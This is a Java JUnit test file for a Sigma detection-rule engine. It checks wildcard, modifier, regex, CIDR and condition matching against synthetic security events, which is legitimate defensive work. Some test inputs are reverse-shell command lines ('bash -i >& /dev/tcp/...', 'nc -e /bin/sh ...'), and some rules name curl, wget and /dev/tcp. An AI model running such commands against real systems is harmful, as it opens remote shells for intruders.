package dev.vigil.sigma;

import org.junit.jupiter.api.Test;

import static dev.vigil.sigma.SigmaLoaderTest.rule;
import static org.assertj.core.api.Assertions.assertThat;

class DetectionMatchingTest {
    private static boolean hit(DetectionRule r, SigmaEvent e) {
        return r.matches(e);
    }

    @Test
    void plainValuesAreCaseInsensitiveEqualityWithWildcards() {
        DetectionRule r = rule("  s:\n    user.name: ROOT\n    process.name: 'ss*d'\n  condition: s\n");
        assertThat(hit(r, TestEvent.security("x").with("user.name", "root").with("process.name", "sshd"))).isTrue();
        assertThat(hit(r, TestEvent.security("x").with("user.name", "rooty").with("process.name", "sshd"))).isFalse();
        assertThat(hit(r, TestEvent.security("x").with("user.name", "root"))).isFalse();
        DetectionRule escaped = rule("  s:\n    user.name: 'a\\*b'\n  condition: s\n");
        assertThat(hit(escaped, TestEvent.security("x").with("user.name", "a*b"))).isTrue();
        assertThat(hit(escaped, TestEvent.security("x").with("user.name", "axxb"))).isFalse();
    }

    @Test
    void globsMatchLikeSigmaWildcards() {
        assertThat(ValueMatcher.of("a*b?d", java.util.List.of()).matches("AXXbcd")).isTrue();
        assertThat(ValueMatcher.of("a*b?d", java.util.List.of()).matches("abd")).isFalse();
        assertThat(ValueMatcher.of("*.sh", java.util.List.of()).matches("/tmp/x.sh")).isTrue();
        assertThat(ValueMatcher.of("*.sh", java.util.List.of()).matches("/tmp/x.shx")).isFalse();
        assertThat(ValueMatcher.of("/dev/tcp/*", java.util.List.of("contains")).matches("bash -i >& /dev/tcp/1.2.3.4/4444")).isTrue();
        assertThat(ValueMatcher.of("ab*ab", java.util.List.of()).matches("ab")).isFalse();
        assertThat(ValueMatcher.of("ab*ab", java.util.List.of()).matches("abab")).isTrue();
        assertThat(ValueMatcher.of("*", java.util.List.of()).matches("")).isTrue();
        assertThat(ValueMatcher.of("", java.util.List.of()).matches("x")).isFalse();
        assertThat(ValueMatcher.of("x?", java.util.List.of("startswith")).matches("xyz")).isTrue();
        assertThat(ValueMatcher.of("a\\*", java.util.List.of()).matches("a*")).isTrue();
        assertThat(ValueMatcher.of("a\\*", java.util.List.of()).matches("ab")).isFalse();
    }

    @Test
    void stringModifiersListsAndAll() {
        DetectionRule any = rule("  s:\n    process.command_line|contains: [wget, curl]\n  condition: s\n");
        assertThat(hit(any, TestEvent.security("sudo").with("process.command_line", "/usr/bin/CURL -O x"))).isTrue();
        assertThat(hit(any, TestEvent.security("sudo").with("process.command_line", "ls"))).isFalse();
        DetectionRule all = rule("  s:\n    process.command_line|contains|all: [nc, '-e']\n  condition: s\n");
        assertThat(hit(all, TestEvent.security("sudo").with("process.command_line", "nc -e /bin/sh 1.2.3.4"))).isTrue();
        assertThat(hit(all, TestEvent.security("sudo").with("process.command_line", "nc 1.2.3.4"))).isFalse();
        DetectionRule ends = rule("  s:\n    process.executable|endswith: /bash\n    process.name|startswith: ba\n  condition: s\n");
        assertThat(hit(ends, TestEvent.security("x").with("process.executable", "/bin/bash").with("process.name", "bash"))).isTrue();
        DetectionRule cased = rule("  s:\n    user.name|cased: Root\n  condition: s\n");
        assertThat(hit(cased, TestEvent.security("x").with("user.name", "root"))).isFalse();
        assertThat(hit(cased, TestEvent.security("x").with("user.name", "Root"))).isTrue();
    }

    @Test
    void regexCidrNumbersExistsNullAndWindash() {
        DetectionRule re = rule("  s:\n    user.name|re: '^adm(in)?[0-9]+$'\n  condition: s\n");
        assertThat(hit(re, TestEvent.security("x").with("user.name", "admin7"))).isTrue();
        assertThat(hit(re, TestEvent.security("x").with("user.name", "ADMIN7"))).isFalse();
        DetectionRule rei = rule("  s:\n    user.name|re|i: '^admin'\n  condition: s\n");
        assertThat(hit(rei, TestEvent.security("x").with("user.name", "ADMIN7"))).isTrue();
        DetectionRule cidr = rule("  s:\n    source.ip|cidr: [10.0.0.0/8, '2001:db8::/32']\n  condition: s\n");
        assertThat(hit(cidr, TestEvent.security("x").with("source.ip", "10.200.3.4"))).isTrue();
        assertThat(hit(cidr, TestEvent.security("x").with("source.ip", "2001:db8:1::5"))).isTrue();
        assertThat(hit(cidr, TestEvent.security("x").with("source.ip", "11.0.0.1"))).isFalse();
        assertThat(hit(cidr, TestEvent.security("x").with("source.ip", "evil.example"))).isFalse();
        DetectionRule gt = rule("  s:\n    destination.port|lt: 1024\n    network.bytes|gte: 100\n  condition: s\n");
        assertThat(hit(gt, TestEvent.security("x").with("destination.port", "22").with("network.bytes", "100"))).isTrue();
        assertThat(hit(gt, TestEvent.security("x").with("destination.port", "2222").with("network.bytes", "100"))).isFalse();
        DetectionRule exists = rule("  s:\n    source.ip|exists: false\n  condition: s\n");
        assertThat(hit(exists, TestEvent.security("x"))).isTrue();
        assertThat(hit(exists, TestEvent.security("x").with("source.ip", "1.1.1.1"))).isFalse();
        DetectionRule isNull = rule("  s:\n    user.name: null\n  condition: s\n");
        assertThat(hit(isNull, TestEvent.security("x"))).isTrue();
        DetectionRule windash = rule("  s:\n    process.command_line|windash|contains: ' -enc '\n  condition: s\n");
        assertThat(hit(windash, TestEvent.security("x").with("process.command_line", "x /enc y"))).isTrue();
        DetectionRule windashAll = rule("  s:\n    process.command_line|windash|contains|all: [' -enc', ' -no-profile']\n  condition: s\n");
        assertThat(hit(windashAll, TestEvent.security("x").with("process.command_line", "x /enc AB /no-profile"))).isTrue();
        assertThat(hit(windashAll, TestEvent.security("x").with("process.command_line", "x /enc AB"))).isFalse();
        assertThat(ValueMatcher.windash("-no-profile")).contains("/no-profile").doesNotContain("/no/profile");
    }

    @Test
    void conditionsWithOneOfAllOfThemNotAndParentheses() {
        String sels = "  sel_a: {user.name: a}\n  sel_b: {source.ip: 1.1.1.1}\n  filter_x: {process.name: cron}\n";
        DetectionRule oneOf = rule(sels + "  condition: 1 of sel_* and not filter_x\n");
        assertThat(hit(oneOf, TestEvent.security("x").with("user.name", "a"))).isTrue();
        assertThat(hit(oneOf, TestEvent.security("x").with("user.name", "a").with("process.name", "cron"))).isFalse();
        DetectionRule allOf = rule(sels + "  condition: all of sel_*\n");
        assertThat(hit(allOf, TestEvent.security("x").with("user.name", "a"))).isFalse();
        assertThat(hit(allOf, TestEvent.security("x").with("user.name", "a").with("source.ip", "1.1.1.1"))).isTrue();
        DetectionRule them = rule(sels + "  condition: 1 of them\n");
        assertThat(hit(them, TestEvent.security("x").with("process.name", "cron"))).isTrue();
        DetectionRule paren = rule(sels + "  condition: not (sel_a or sel_b) and filter_x\n");
        assertThat(hit(paren, TestEvent.security("x").with("process.name", "cron"))).isTrue();
        assertThat(hit(paren, TestEvent.security("x").with("process.name", "cron").with("user.name", "a"))).isFalse();
        DetectionRule listOfMaps = rule("  s:\n    - {user.name: a, source.ip: 2.2.2.2}\n    - {user.name: b}\n  condition: s\n");
        assertThat(hit(listOfMaps, TestEvent.security("x").with("user.name", "b"))).isTrue();
        assertThat(hit(listOfMaps, TestEvent.security("x").with("user.name", "a"))).isFalse();
    }

    @Test
    void keywordsSearchTheMessageAndLogsourcesSelectEvents() {
        SigmaLoader.Result r = SigmaLoaderTest.load("title: K\nid: k\nlogsource: {product: linux, service: sshd}\n"
                + "detection:\n  keywords:\n    - 'Corrupted MAC on input'\n    - 'bad client public DH*value'\n  condition: keywords\n");
        DetectionRule k = r.detections().get(0);
        assertThat(hit(k, TestEvent.log("sshd", "fatal: Corrupted MAC on input. [preauth]"))).isTrue();
        assertThat(hit(k, TestEvent.log("sshd", "Bad client public DH  value"))).isTrue();
        assertThat(hit(k, TestEvent.log("nginx", "Corrupted MAC on input"))).isFalse();
        assertThat(hit(k, TestEvent.security("auth_failure"))).isFalse();
    }
}
